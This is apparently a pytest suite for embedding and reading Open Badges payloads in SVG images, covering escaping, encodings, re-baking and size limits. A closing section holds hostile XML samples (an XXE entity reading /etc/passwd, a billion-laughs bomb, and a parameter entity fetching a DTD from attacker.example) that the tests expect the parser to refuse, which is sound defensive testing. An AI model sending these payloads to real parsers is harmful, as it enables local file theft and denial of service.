"""SVG baking by text edit and reading with a defused parser, including hostile documents."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ElementTree

import pytest
from badge_samples import HOSTED_URL, OB2_ASSERTION, OB3_CREDENTIAL, PLAIN_SVG, as_json

from badgesite.openbadges import OpenBadgesError, bake_svg, find_svg_badge, read_svg_payload

OB2 = "{http://openbadges.org}assertion"
OB3 = "{https://purl.imsglobal.org/ob/v3p0}credential"
JWS = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJodHRwczovL2V4YW1wbGUub3JnIn0.c2lnbmF0dXJl"


def badge_elements(svg: bytes, tag: str) -> list[ElementTree.Element]:
    return list(ElementTree.fromstring(svg).iter(tag))


def test_hosted_assertion_goes_in_one_cdata_with_verify_set_to_its_id() -> None:
    payload = as_json(OB2_ASSERTION)

    baked = bake_svg(PLAIN_SVG, payload, version="2.0")

    root = ElementTree.fromstring(baked)
    first = root[0]
    assert first.tag == OB2
    assert first.get("verify") == "https://example.org/beths-robotics-badge.json"
    assert first.text == payload
    assert baked.count(b"<![CDATA[") == 1
    assert read_svg_payload(baked) == (None, payload)


def test_ob1_assertion_uses_its_verify_url() -> None:
    payload = '{"uid":"1","verify":{"type":"hosted","url":"https://example.org/a.json"}}'
    baked = bake_svg(PLAIN_SVG, payload, version="1.0")
    assert ElementTree.fromstring(baked)[0].get("verify") == "https://example.org/a.json"


def test_assertion_without_a_url_has_no_verify_attribute() -> None:
    baked = bake_svg(PLAIN_SVG, '{"id":"urn:uuid:1"}', version="2.0")
    assert ElementTree.fromstring(baked)[0].get("verify") is None


def test_ob3_json_credential_goes_in_cdata_without_verify() -> None:
    payload = as_json(OB3_CREDENTIAL)

    baked = bake_svg(PLAIN_SVG, payload, version="3.0")

    element = ElementTree.fromstring(baked)[0]
    assert (element.tag, element.get("verify"), element.text) == (OB3, None, payload)
    assert read_svg_payload(baked) == ("3.0", payload)


@pytest.mark.parametrize(
    ("version", "markup"),
    [
        ("2.0", f'<openbadges:assertion verify="{JWS}"/>'),
        ("3.0", f'<openbadges:credential verify="{JWS}"></openbadges:credential>'),
    ],
)
def test_jws_goes_in_verify_alone(version: str, markup: str) -> None:
    baked = bake_svg(PLAIN_SVG, JWS, version=version)

    assert markup.encode() in baked
    assert read_svg_payload(baked) == ("3.0" if version == "3.0" else None, JWS)


def test_hosted_url_goes_in_verify_escaped() -> None:
    url = "https://example.org/a?x=1&y=<2>"
    baked = bake_svg(PLAIN_SVG, url, version="2.0")

    assert b'verify="https://example.org/a?x=1&amp;y=&lt;2&gt;"' in baked
    assert read_svg_payload(baked) == (None, url)


def test_json_containing_the_cdata_terminator_round_trips() -> None:
    payload = '{"name":"a]]>b","description":"]]>]]>"}'

    baked = bake_svg(PLAIN_SVG, payload, version="2.0")

    assert read_svg_payload(baked) == (None, payload)


def test_the_rest_of_the_document_is_unchanged() -> None:
    baked = bake_svg(PLAIN_SVG, HOSTED_URL, version="2.0")

    expected = PLAIN_SVG.replace(
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n',
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" xmlns:openbadges="http://openbadges.org">\n'
        b'  <openbadges:assertion verify="https://example.org/assertions/robotics.json"/>\n',
    )
    assert baked == expected


@pytest.mark.parametrize(("version", "tag"), [("2.0", OB2), ("3.0", OB3)])
def test_rebaking_replaces_never_duplicates_and_is_stable(version: str, tag: str) -> None:
    first = bake_svg(PLAIN_SVG, "https://example.org/first", version=version)
    second = bake_svg(first, "https://example.org/second", version=version)
    third = bake_svg(second, "https://example.org/second", version=version)

    assert len(badge_elements(second, tag)) == 1
    assert read_svg_payload(second)[1] == "https://example.org/second"  # type: ignore[index]
    assert third == second
    assert second.count(b"xmlns:openbadges") == 1


def test_replaces_an_existing_element_whatever_its_prefix_and_depth() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="http://openbadges.org">\n'
        b'  <ob:assertion verify="https://example.org/old"/>\n'
        b'  <g><ob:assertion verify="https://example.org/older"/></g>\n'
        b"</svg>"
    )

    baked = bake_svg(svg, HOSTED_URL, version="2.0")

    assert [element.get("verify") for element in badge_elements(baked, OB2)] == [HOSTED_URL]
    assert baked == (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="http://openbadges.org" '
        b'xmlns:openbadges="http://openbadges.org">\n'
        b'  <openbadges:assertion verify="https://example.org/assertions/robotics.json"/>\n'
        b"  <g></g>\n"
        b"</svg>"
    )


def test_baking_ob3_leaves_an_ob2_assertion_and_reads_the_new_one_first() -> None:
    ob2 = bake_svg(PLAIN_SVG, HOSTED_URL, version="2.0")

    both = bake_svg(ob2, JWS, version="3.0")

    assert len(badge_elements(both, OB2)) == len(badge_elements(both, OB3)) == 1
    assert read_svg_payload(both) == ("3.0", JWS)
    # the root binds "openbadges" to the OB 2.0 namespace, so the new element declares its own
    assert (
        f'<openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" verify="{JWS}">'.encode() in both
    )


def test_a_self_closing_root_gets_the_element_and_an_end_tag() -> None:
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"/>', HOSTED_URL, version="2.0")
    assert baked == (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:assertion verify="https://example.org/assertions/robotics.json"/></svg>'
    )


def test_a_prefixed_svg_root_is_accepted() -> None:
    svg = b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect/></s:svg>'
    baked = bake_svg(svg, HOSTED_URL, version="3.0")
    assert read_svg_payload(baked) == ("3.0", HOSTED_URL)
    assert baked.endswith(b"</openbadges:credential><s:rect/></s:svg>")


def test_a_latin1_document_stays_latin1() -> None:
    svg = '<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"><title>Café</title></svg>'
    baked = bake_svg(svg.encode("latin-1"), '{"name":"Ça va"}', version="2.0")
    assert "<title>Café</title>".encode("latin-1") in baked
    assert read_svg_payload(baked) == (None, '{"name":"Ça va"}')


def test_a_latin1_document_refuses_characters_it_cannot_hold() -> None:
    svg = b'<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    with pytest.raises(OpenBadgesError, match=r"its encoding \(iso8859-1\) cannot hold every character"):
        bake_svg(svg, '{"name":"徽章"}', version="2.0")


def test_a_utf16_document_is_read_but_not_baked() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">' + (
        f'<openbadges:assertion verify="{HOSTED_URL}"/></svg>'
    )
    encoded = svg.encode("utf-16")
    assert read_svg_payload(encoded) == (None, HOSTED_URL)
    with pytest.raises(
        OpenBadgesError, match=r"^cannot bake into this SVG: it is encoded in UTF-16 or UTF-32; save it as UTF-8 first$"
    ):
        bake_svg(encoded, HOSTED_URL, version="2.0")


def test_an_empty_hook_element_is_no_payload() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
        b'<openbadges:credential verify=""></openbadges:credential></svg>'
    )
    assert read_svg_payload(svg) is None


def test_content_json_is_preferred_over_the_verify_url() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<openbadges:assertion verify="https://example.org/a"><![CDATA[ {"a": 1} ]]></openbadges:assertion></svg>'
    )
    assert read_svg_payload(svg) == (None, '{"a": 1}')


def test_unbaked_svg_has_no_payload() -> None:
    assert read_svg_payload(PLAIN_SVG) is None
    assert find_svg_badge(PLAIN_SVG) is None


def test_bake_refuses_an_unknown_version() -> None:
    with pytest.raises(OpenBadgesError, match=r"^cannot bake Open Badges version '4\.0': expected 1\.0, 2\.0 or 3\.0$"):
        bake_svg(PLAIN_SVG, HOSTED_URL, version="4.0")


def test_bake_refuses_a_payload_of_no_known_shape() -> None:
    with pytest.raises(OpenBadgesError, match=r"^cannot bake the payload: expected JSON, a compact JWS or an http"):
        bake_svg(PLAIN_SVG, "hello world", version="2.0")


def test_bake_refuses_broken_json() -> None:
    with pytest.raises(OpenBadgesError, match=r"^cannot bake the payload: it looks like JSON but does not parse"):
        bake_svg(PLAIN_SVG, "{not json", version="2.0")


def test_bake_refuses_control_characters() -> None:
    with pytest.raises(OpenBadgesError, match=r"contains control characters that XML cannot hold$"):
        bake_svg(PLAIN_SVG, '{"a":"\x01"}', version="2.0")


def test_bake_refuses_a_payload_over_the_limit() -> None:
    with pytest.raises(OpenBadgesError, match=r"^cannot bake the payload: it is 5\.0 MiB, over the 4\.0 MiB"):
        bake_svg(PLAIN_SVG, '{"a":"' + "x" * (5 * 1024 * 1024) + '"}', version="2.0")


# Hostile and broken documents.

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">
<openbadges:assertion><![CDATA[{"a":1}]]></openbadges:assertion><text>&xxe;</text></svg>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol3;</text></svg>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("operation", ["read", "bake"])
def test_refuses_an_external_entity(operation: str) -> None:
    expected = (
        r"^SVG refused: it declares the external entity 'xxe' \(file:///etc/passwd\); "
        r"external entities could read local files or the network$"
    )
    with pytest.raises(OpenBadgesError, match=expected):
        read_svg_payload(XXE) if operation == "read" else bake_svg(XXE, HOSTED_URL, version="2.0")


def test_refuses_billion_laughs() -> None:
    expected = (
        r"^SVG refused: it declares the entity 'lol'; entity expansion is not allowed "
        r"\(it can blow up memory, as in the billion-laughs attack\)$"
    )
    with pytest.raises(OpenBadgesError, match=expected):
        read_svg_payload(BILLION_LAUGHS)


def test_refuses_an_external_parameter_entity() -> None:
    with pytest.raises(OpenBadgesError, match=r"external entity 'remote' \(http://attacker\.example/evil\.dtd\)"):
        read_svg_payload(PARAMETER_ENTITY)


def test_accepts_a_doctype_without_entities() -> None:
    svg = (
        b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>'
    )
    baked = bake_svg(svg, HOSTED_URL, version="2.0")
    assert baked.startswith(svg[: svg.index(b"<svg")])
    assert read_svg_payload(baked) == (None, HOSTED_URL)


def test_rejects_malformed_xml() -> None:
    with pytest.raises(OpenBadgesError, match=r"^SVG is not well-formed XML: mismatched tag: line 1, column \d+$"):
        read_svg_payload(b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>')


def test_rejects_a_document_that_is_not_svg() -> None:
    with pytest.raises(OpenBadgesError, match=r"^not an SVG document: the root element is <html>, not <svg>$"):
        read_svg_payload(b"<html><body/></html>")


def test_rejects_a_document_over_the_size_limit() -> None:
    huge = b"<svg>" + b" " * (33 * 1024 * 1024) + b"</svg>"
    with pytest.raises(OpenBadgesError, match=r"^SVG is 33\.0 MiB, over the 32\.0 MiB limit for badge images$"):
        read_svg_payload(huge)


def test_rejects_an_embedded_payload_over_the_limit() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"><openbadges:assertion>'
        + b"x" * (5 * 1024 * 1024)
        + b"</openbadges:assertion></svg>"
    )
    with pytest.raises(OpenBadgesError, match=r"^the SVG badge element holds 5\.0 MiB, over the 4\.0 MiB limit"):
        read_svg_payload(svg)


def test_no_stray_whitespace_builds_up_over_many_bakes() -> None:
    baked = PLAIN_SVG
    for index in range(5):
        baked = bake_svg(baked, f"https://example.org/{index}", version="2.0")
    assert re.sub(rb"  <openbadges:assertion[^\n]*\n", b"", baked) == PLAIN_SVG.replace(
        b'viewBox="0 0 10 10">', b'viewBox="0 0 10 10" xmlns:openbadges="http://openbadges.org">'
    )


def test_bom_crlf_tabs_and_look_alikes_in_comments_and_cdata() -> None:
    svg = (
        b'\xef\xbb\xbf<?xml version="1.0"?>\r\n<svg xmlns="http://www.w3.org/2000/svg">\r\n'
        b'\t<!-- <openbadges:assertion verify="x"/> -->\r\n'
        b"\t<text><![CDATA[<openbadges:assertion>]]></text>\r\n</svg>\r\n"
    )

    baked = bake_svg(svg, HOSTED_URL, version="2.0")

    assert baked == (
        b'\xef\xbb\xbf<?xml version="1.0"?>\r\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">\r\n'
        b'\t<openbadges:assertion verify="https://example.org/assertions/robotics.json"/>\r\n'
        b'\t<!-- <openbadges:assertion verify="x"/> -->\r\n'
        b"\t<text><![CDATA[<openbadges:assertion>]]></text>\r\n</svg>\r\n"
    )
    assert bake_svg(baked, HOSTED_URL, version="2.0") == baked
